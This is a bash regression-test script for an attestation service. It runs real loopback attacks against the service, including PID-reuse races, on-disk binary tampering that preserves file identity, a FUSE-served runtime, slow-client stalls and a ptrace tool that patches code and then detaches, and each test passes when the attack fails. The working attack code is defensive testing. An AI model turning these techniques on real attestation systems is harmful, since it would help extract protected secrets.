#!/usr/bin/env bash
# Attacks on veil-las (issue 9: H4, M1, M5; C1's FUSE and detached tracer),
# each performed for real on loopback against veil-las, veil-cas and
# veil-run; every scenario passes when the attack fails. Root (mount
# namespaces, a loop-mounted ext4 image, a FUSE mount).
# Every server is started here and stopped by PID; the FUSE mount (bindfs) is
# unmounted. Usage: attack_las.sh BUILD_DIR
#
# Seen against the code before the fix (veil-las and veil-run of 1c7cc1f):
# - t_h4_fork_after_connect: the CAS answered 200 with the seed's
#   API_PASSWORD to the attacker's own key (veil-las measured the pid that
#   connected, the parent, which had become the genuine veil-run).
# - t_h4_exec_after_send: the same with the request sent by the process
#   itself before it exec'd veil-run (without the newline veil-las waited out
#   its 5 s read timeout, then measured the exe the pid had by then).
# - t_m1_offline_change_under_remount: a veil-run copy on an ext4 image,
#   changed while unmounted (same device, inode, size, mtime, ctime after the
#   remount), got the genuine binary's measurement from the cache and the
#   secrets ("API_PASSWORD is set").
#   (After the fix a change the kernel does not see is vouched for at most
#   --cache-seconds: both M1 scenarios run against a veil-las with 1 s and
#   start the changed binary after it; they take root, who can read the
#   platform key anyway.)
# - t_m1_cache_lifetime: --cache-seconds did not exist; run against the old
#   veil-las without it, the binary changed under a live mount behind the
#   filesystem's back started with the secrets 1.5 s later (and would have
#   as long as veil-las ran).
# - t_m5_slow_client_does_not_block: a client dribbling a byte a second held
#   veil-las; the genuine start next to it took 69.7 s.
# - t_m5_silent_las_times_out: veil-run waited on a LAS that accepts and never
#   answers until the test's 30 s guard killed it (exit 124).
# Seen against 3aac5c7 (2026-12-02):
# - t_fuse_served_runtime_refused: veil-run execed from a bindfs (FUSE) mount
#   got evidence and the configuration: "API_USER = myself", "API_PASSWORD is
#   set (10 characters)". A FUSE server that answers veil-las's read with the
#   genuine bytes and the kernel's page-ins with others gets the same.
# - t_code_changed_by_detached_tracer_refused: veil-run, 16 bytes of its code
#   (veil_print_version) overwritten with int3 by its tracing parent at the
#   exec stop, which then detached, got evidence and the configuration
#   ("API_USER = myself", "API_PASSWORD is set (10 characters)").
set -u
BUILD=$(realpath "$1")
VEIL=$BUILD/veil
ROOT=${VEIL_SOURCE_ROOT:-$(cd "$(dirname "$0")/../.." && pwd)}
SEED=$ROOT/examples/python-hello-user
# veil apply builds each service's image too; with no registry here its base is
# "scratch" (veil's layers alone: docs/images.md)
export VEIL_BASE=scratch
WORK=$(mktemp -d)
PORT=$((20000 + RANDOM % 20000))
URL=https://127.0.0.1:$PORT
export VEIL_HOME=$WORK/home
pids=()
made_python=
mnt=
fuse_mnt=
cleanup() {
	# the FUSE mount before its server (bindfs, in pids): nothing waits on a dead server
	[ -n "$fuse_mnt" ] && mountpoint -q "$fuse_mnt" && { umount "$fuse_mnt" || umount -l "$fuse_mnt"; }
	for p in "${pids[@]}"; do kill "$p" 2>/dev/null; done
	wait 2>/dev/null
	[ -n "$mnt" ] && mountpoint -q "$mnt" && umount "$mnt"
	[ -n "$made_python" ] && rmdir /python 2>/dev/null
	rm -rf "$WORK"
}
trap cleanup EXIT
. "$ROOT/tests/e2e/lib.sh"

start_las() { # name [flags...]
	local name=$1
	shift
	"$BUILD/veil-las" --socket "$WORK/$name.sock" --data "$WORK/las" "$@" >"$WORK/$name.out" 2>"$WORK/$name.err" &
	pids+=($!)
	wait_for "$WORK/$name.out" "platform key hash"
}
start_service() { # las-name [extra env...]
	local las=$1
	shift
	unshare -m --propagation private bash -c '
		mount --bind "$1" /python || exit 97
		shift
		exec env -i "$@"' _ "$WORK/files" \
		SCONE_CONFIG_ID=myPythonApp/pythonapp SCONE_CAS_ADDR=127.0.0.1:$PORT \
		SCONE_LAS_ADDR="$WORK/$las.sock" VEIL_CAS_KEY="$CAS_KEY" VEIL_IMAGE_ROOT="$(test_image_root)" "$@" "${RUNTIME:-$BUILD/veil-run}"
}
# a unix socket that accepts and never answers (a hung veil-las)
start_silent() { # name
	python3 -c '
import socket, sys, time
s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); s.listen(64)
print("listening", flush=True)
held = []
while True:
    held.append(s.accept()[0])' "$WORK/$1.sock" >"$WORK/$1.out" 2>&1 &
	pids+=($!)
	wait_for "$WORK/$1.out" listening
}

# The attacker's TLS key and the report data binding it (SHA-256 of its DER
# SubjectPublicKeyInfo, as veil-run computes it)
make_attacker_key() {
	openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj /CN=attacker \
		-days 1 -keyout "$WORK/att.key" -out "$WORK/att.crt" 2>/dev/null || return 1
	ATT_RD=$(openssl pkey -in "$WORK/att.key" -pubout -outform DER | sha256sum | cut -c1-64)
}
# attest to the CAS with the attacker's key and whatever evidence it got;
# sets $code and leaves the body in $WORK/.body
attest_as_attacker() { # evidence-file
	python3 - "$1" "$FILE_ROOT" >"$WORK/att.json" <<'PY' || return 1
import json, sys
ev = open(sys.argv[1]).read().strip()
print(json.dumps({"config_id": "myPythonApp/pythonapp", "evidence": ev, "file_set_root": sys.argv[2]}))
PY
	code=$(curl -sk --tlsv1.3 --cert "$WORK/att.crt" --key "$WORK/att.key" -o "$WORK/.body" \
		-w '%{http_code}' -X POST --data-binary @"$WORK/att.json" "$URL/v1/attest")
}
# the attack got the seed's secrets: the CAS answered 200 (the configuration,
# sealed to the attacker's key, which the attacker holds: include/veil/sealed.h)
secrets_released() { [ "$code" = 200 ]; }

t_setup() {
	[ "$(id -u)" = 0 ] || die "needs root for the mount namespace" || return 1
	if [ ! -d /python ]; then mkdir /python && made_python=1; fi
	start_las las || die "veil-las did not start: $(cat "$WORK/las.err")" || return 1
	"$BUILD/veil-cas" --init --data "$WORK/cas" --listen "127.0.0.1:$PORT" --threads 2 \
		--trust-platform "$("$BUILD/veil-las" --print-key-hash --data "$WORK/las")" >"$WORK/cas.out" 2>"$WORK/cas.err" &
	pids+=($!)
	wait_for "$WORK/cas.out" "key hash" || die "veil-cas did not start" || return 1
	CAS_KEY=$("$BUILD/veil-cas" --print-key-hash --data "$WORK/cas")
	mkdir -p "$WORK/files" "$WORK/app" && cp "$SEED/print_env.py" "$WORK/files/" || return 1
	cd "$WORK/app" || return 1
	VEIL_RUNTIME=$BUILD/veil-run "$VEIL" apply -f "$SEED/service.yaml" --no-push >/dev/null || return 1
	run "$VEIL" apply -f "$SEED/Meshfile" --mode debug --cas "$URL" && ok || return 1
	start_las lasc --cache-seconds 1 || die "veil-las --cache-seconds 1 did not start: $(cat "$WORK/lasc.err")" || return 1
	start_silent silent || die "the silent socket did not start" || return 1
	make_attacker_key || die "no attacker key" || return 1
	# the file-set root is no secret: a debug start prints it
	run start_service las VEIL_LOG=debug && ok && has "API_USER = myself" || return 1
	FILE_ROOT=$(sed -n 's/.*file-set root of \/python: \([0-9a-f]\{64\}\).*/\1/p' <<<"$err")
	[ ${#FILE_ROOT} = 64 ] || die "no file-set root in: $err"
}

# H4: connect, fork; the parent execs the genuine veil-run (kept alive on a
# LAS that never answers), the child asks on the inherited connection for
# evidence bound to its own key and attests with it
t_h4_fork_after_connect() {
	(timeout 30 python3 - "$WORK/las.sock" "$ATT_RD" "$BUILD/veil-run" "$WORK/silent.sock" >"$WORK/ev1" 2>"$WORK/ev1.err"; true) 2>/dev/null <<'PY'
import os, socket, sys, time
las, rd, vr, silent = sys.argv[1:5]
s = socket.socket(socket.AF_UNIX); s.connect(las)
if os.fork() == 0:
    parent = os.getppid()
    for _ in range(300):  # until the parent is the genuine veil-run
        try:
            if os.readlink("/proc/%d/exe" % parent) == vr:
                break
        except OSError:
            pass
        time.sleep(0.01)
    time.sleep(0.05)
    s.sendall(b"REPORT " + rd.encode() + b" myPythonApp/pythonapp\n")
    data = b""
    while True:
        chunk = s.recv(65536)
        if not chunk:
            break
        if chunk.startswith(b"CHALLENGE "):  # a protocol-aware attacker answers it
            s.sendall(b"RESPONSE " + chunk.split()[1] + b"\n")
            continue
        data += chunk
    sys.stdout.write(data.decode()); sys.stdout.flush()
    os.kill(parent, 9)
    os._exit(0)
os.execve(vr, [vr], {"SCONE_CONFIG_ID": "myPythonApp/pythonapp", "SCONE_CAS_ADDR": "127.0.0.1:1",
                     "VEIL_CAS_KEY": "0" * 64, "SCONE_LAS_ADDR": silent})
PY
	attest_as_attacker "$WORK/ev1" || return 1
	! secrets_released || die "the CAS released the secrets to the attacker's key" || return 1
	# the child was measured (python3), or refused outright
	grep -q '^ERROR' "$WORK/ev1" || [ "$code" = 403 ] || die "CAS answered $code: $(cat "$WORK/.body")"
}

# H4, the same pid: the process sends the request for its own key, then
# execs the genuine veil-run before veil-las measures it; a forked child
# holds the connection and reads the evidence
t_h4_exec_after_send() {
	local nl
	for nl in no yes; do
		(timeout 30 python3 - "$WORK/las.sock" "$ATT_RD" "$BUILD/veil-run" "$WORK/silent.sock" $nl >"$WORK/ev2" 2>"$WORK/ev2.err"; true) 2>/dev/null <<'PY'
import os, socket, sys, time
las, rd, vr, silent, nl = sys.argv[1:6]
s = socket.socket(socket.AF_UNIX); s.connect(las)
os.set_inheritable(s.fileno(), True)
r, w = os.pipe()
child = os.fork()
if child == 0:
    os.close(w)
    parent = os.getppid()
    data = b""
    while True:
        chunk = s.recv(65536)
        if not chunk:
            break
        if chunk.startswith(b"CHALLENGE "):
            s.sendall(b"RESPONSE " + chunk.split()[1] + b"\n")
            continue
        data += chunk
    sys.stdout.write(data.decode()); sys.stdout.flush()
    os.kill(parent, 9)
    os._exit(0)
s.sendall(b"REPORT " + rd.encode() + b" myPythonApp/pythonapp" + (b"\n" if nl == "yes" else b""))
os.execve(vr, [vr], {"SCONE_CONFIG_ID": "myPythonApp/pythonapp", "SCONE_CAS_ADDR": "127.0.0.1:1",
                     "VEIL_CAS_KEY": "0" * 64, "SCONE_LAS_ADDR": silent})
PY
		attest_as_attacker "$WORK/ev2" || return 1
		! secrets_released || die "(newline: $nl) the CAS released the secrets to the attacker's key" || return 1
	done
}

# M1: a veil-run copy on a loop-mounted ext4 image; unmounted, its bytes are
# changed in the image (a string in its --help: it still runs), mounted
# again: the same device, inode, size, mtime and ctime
loop_runtime_setup() { # image
	truncate -s 64M "$1" && mkfs.ext4 -q -F -b 4096 "$1" || return 1
	mnt=$WORK/mnt
	mkdir -p "$mnt" && mount -o loop "$1" "$mnt" || return 1
	cp "$BUILD/veil-run" "$mnt/vr" && sync
}
# flips "takes no arguments" to "TAKES no arguments" in the image's copy of vr
patch_image() { # image
	local off blk phys
	off=$(grep -boa "takes no arguments" "$BUILD/veil-run" | head -1 | cut -d: -f1)
	[ -n "$off" ] || return 1
	blk=$(debugfs -R "blocks /vr" "$1" 2>/dev/null | tr ' ' '\n' | sed -n "$((off / 4096 + 1))p")
	[ -n "$blk" ] || return 1
	phys=$((blk * 4096 + off % 4096))
	printf 'TAKES' | dd of="$1" bs=1 seek="$phys" conv=notrunc status=none
}
ident() { stat -c '%d %i %s %Y %Z' "$1"; }

t_m1_offline_change_under_remount() {
	local img=$WORK/rt.img before after
	loop_runtime_setup "$img" || die "no loop mount" || return 1
	RUNTIME=$mnt/vr run start_service lasc && ok && has "API_USER = myself" || return 1
	before=$(ident "$mnt/vr")
	umount "$mnt" && patch_image "$img" && mount -o loop "$img" "$mnt" || die "cannot change the image" || return 1
	after=$(ident "$mnt/vr")
	[ "$before" = "$after" ] || die "identity changed ($before / $after): not the attack" || return 1
	grep -qa "TAKES no arguments" "$mnt/vr" || die "the change is not in the file" || return 1
	sleep 1.5
	RUNTIME=$mnt/vr run start_service lasc
	local st=$rc
	umount "$mnt" && mnt=
	[ $st = 1 ] || die "the changed binary started (exit $st): $out" || return 1
	has "not in policy myPythonApp/pythonapp" && lacks "API_USER ="
}

# M1, what no file identity shows: the image changed under a live mount,
# behind the filesystem's back (and its page cache dropped). veil-las
# vouches for the old bytes at most --cache-seconds long
t_m1_cache_lifetime() {
	local img=$WORK/rt2.img
	loop_runtime_setup "$img" || die "no loop mount" || return 1
	RUNTIME=$mnt/vr run start_service lasc && ok && has "API_USER = myself" || return 1
	patch_image "$img" && sync "$img" || return 1
	dd if="$mnt/vr" iflag=nocache count=0 status=none # evict its pages: read from disk again
	grep -qa "TAKES no arguments" "$mnt/vr" || die "the change is not visible" || return 1
	sleep 1.5
	RUNTIME=$mnt/vr run start_service lasc
	local st=$rc
	umount "$mnt" && mnt=
	[ $st = 1 ] || die "the changed binary started (exit $st): $out" || return 1
	has "not in policy myPythonApp/pythonapp" && lacks "API_USER ="
}

# M5: one slow client must not hold up the others
t_m5_slow_client_does_not_block() {
	python3 - "$WORK/las.sock" >"$WORK/dribble.out" 2>&1 <<'PY' &
import socket, sys, time
s = socket.socket(socket.AF_UNIX); s.connect(sys.argv[1])
start = time.monotonic()
try:
    for b in b"REPORT " + b"0" * 64 + b" myPythonApp/pythonapp\n":
        s.sendall(bytes([b]))
        time.sleep(1)
except OSError:
    pass
s.settimeout(30)
try:
    data = s.recv(4096)
except OSError:
    data = b""
print("cut off after %.1f s: %r" % (time.monotonic() - start, data[:60]), flush=True)
PY
	local dribbler=$! a b
	pids+=($dribbler)
	sleep 1.5
	a=$(date +%s%N)
	run start_service las && ok && has "API_USER = myself" || return 1
	b=$(date +%s%N)
	[ $(((b - a) / 1000000)) -lt 3000 ] || die "a start took $(((b - a) / 1000000)) ms next to a slow client" || return 1
	# and veil-las drops the dribbler at its whole-request deadline
	wait "$dribbler"
	grep -q "cut off after [0-9]" "$WORK/dribble.out" || die "dribbler: $(cat "$WORK/dribble.out")" || return 1
	local s
	s=$(sed -n 's/cut off after \([0-9]*\)\..*/\1/p' "$WORK/dribble.out")
	[ "$s" -le 10 ] || die "the dribbler was served for $s s"
}

t_m5_silent_las_times_out() {
	local a b
	a=$(date +%s)
	run timeout 30 env -i SCONE_CONFIG_ID=myPythonApp/pythonapp SCONE_CAS_ADDR=127.0.0.1:$PORT \
		SCONE_LAS_ADDR="$WORK/silent.sock" VEIL_CAS_KEY="$CAS_KEY" VEIL_IMAGE_ROOT="$(test_image_root)" "$BUILD/veil-run"
	b=$(date +%s)
	[ "$rc" = 1 ] || die "exit $rc (124: still waiting after 30 s)" || return 1
	has "veil-las at $WORK/silent.sock did not answer within 10 s" && [ $((b - a)) -le 15 ]
}

# C1, FUSE: a userspace server answers both veil-las's hashing read and the
# kernel's page-ins for exec, so it can give each different bytes: the hash
# says nothing about what runs. bindfs serves a faithful copy of veil-run
# here; veil-las must refuse it for where it lives, not for its bytes.
# Before the fix it started with the configuration (API_USER, API_PASSWORD).
t_fuse_served_runtime_refused() {
	command -v bindfs >/dev/null || die "needs bindfs (scripts/setup.sh --test)" || return 1
	[ -c /dev/fuse ] || die "needs /dev/fuse" || return 1
	mkdir -p "$WORK/fuse-src" "$WORK/fuse" && cp "$BUILD/veil-run" "$WORK/fuse-src/vr" || return 1
	bindfs -f "$WORK/fuse-src" "$WORK/fuse" 2>"$WORK/bindfs.err" &
	pids+=($!)
	fuse_mnt=$WORK/fuse
	local i
	for i in $(seq 100); do
		[ "$(stat -f -c %t "$fuse_mnt" 2>/dev/null)" = 65735546 ] && break
		sleep 0.05
	done
	[ "$(stat -f -c %t "$fuse_mnt")" = 65735546 ] || die "bindfs did not mount: $(cat "$WORK/bindfs.err")" || return 1
	cmp -s "$BUILD/veil-run" "$fuse_mnt/vr" || die "the FUSE copy differs" || return 1
	RUNTIME=$fuse_mnt/vr run start_service las
	local st=$rc
	umount "$fuse_mnt" || umount -l "$fuse_mnt"
	fuse_mnt=
	[ $st = 1 ] || die "veil-run served by FUSE started (exit $st): $out" || return 1
	has "veil-las refused: the caller's executable is on FUSE" && lacks "API_USER ="
}

# C1, a tracer gone before veil-las looks: the parent of veil-run traces it
# from its exec (PTRACE_TRACEME), writes into its code at the exec stop (a
# function the start never calls: veil-run still asks for evidence as
# always) and detaches; TracerPid is 0 again when veil-las reads it.
# Before the fix the changed veil-run started with the configuration.
make_poker() {
	cat >"$WORK/poker.c" <<'C'
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>
/* poker VADDR PROGRAM [ARG...]: runs PROGRAM traced from its exec, writes 16
 * int3 bytes at VADDR (relative to its load base) into its code, detaches and
 * exits with its status */
int main(int argc, char **argv)
{
	if (argc < 3)
		return 2;
	unsigned long vaddr = strtoul(argv[1], NULL, 16);
	pid_t child = fork();
	if (child == 0) {
		ptrace(PTRACE_TRACEME, 0, 0, 0);
		execv(argv[2], argv + 2);
		_exit(127);
	}
	int st;
	if (waitpid(child, &st, 0) != child || !WIFSTOPPED(st))
		return fputs("poker: no exec stop\n", stderr), 2;
	char path[64], exe[4096], line[4096 + 256];
	snprintf(path, sizeof(path), "/proc/%d/exe", (int)child);
	ssize_t n = readlink(path, exe, sizeof(exe) - 1);
	exe[n > 0 ? n : 0] = '\0';
	snprintf(path, sizeof(path), "/proc/%d/maps", (int)child);
	FILE *f = fopen(path, "r");
	unsigned long base = 0, start, off;
	int found = 0;
	while (f && !found && fgets(line, sizeof(line), f)) {
		int at = 0;
		line[strcspn(line, "\n")] = '\0';
		if (sscanf(line, "%lx-%*x %*s %lx %*s %*s %n", &start, &off, &at) == 2 && at &&
		    off == 0 && !strcmp(line + at, exe))
			base = start, found = 1;
	}
	if (!found)
		return fprintf(stderr, "poker: %s not in the maps\n", exe), 2;
	long word;
	memset(&word, 0xcc, sizeof(word));
	for (unsigned long a = base + vaddr; a < base + vaddr + 16; a += sizeof(word))
		if (ptrace(PTRACE_POKETEXT, child, (void *)a, (void *)word))
			return perror("poker: PTRACE_POKETEXT"), 2;
	long now = ptrace(PTRACE_PEEKTEXT, child, (void *)(base + vaddr), 0);
	fprintf(stderr, "poker: %s code at %#lx is now %s\n", exe, base + vaddr,
		now == word ? "int3" : "unchanged");
	ptrace(PTRACE_DETACH, child, 0, 0);
	if (waitpid(child, &st, 0) != child)
		return 2;
	return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
}
C
	cc -O1 -o "$WORK/poker" "$WORK/poker.c"
}

t_code_changed_by_detached_tracer_refused() {
	local vaddr
	# its code is never written at load (no text relocations): any
	# difference from the file in its code is someone else's writing
	run readelf -dW "$BUILD/veil-run" && ok && lacks TEXTREL || return 1
	vaddr=$(nm "$BUILD/veil-run" | awk '$3 == "veil_print_version" {print $1}')
	[ -n "$vaddr" ] || die "no symbol veil_print_version in veil-run" || return 1
	make_poker || return 1
	run start_service las "$WORK/poker" "$vaddr"
	has "is now int3" || return 1
	rejected && has "veil-las refused" && has "the caller's code in memory differs from its executable" &&
		lacks "API_USER ="
}

run_in_order attack_las t_setup t_h4_fork_after_connect t_h4_exec_after_send \
	t_m1_offline_change_under_remount t_m1_cache_lifetime t_m5_slow_client_does_not_block \
	t_m5_silent_las_times_out t_fuse_served_runtime_refused t_code_changed_by_detached_tracer_refused
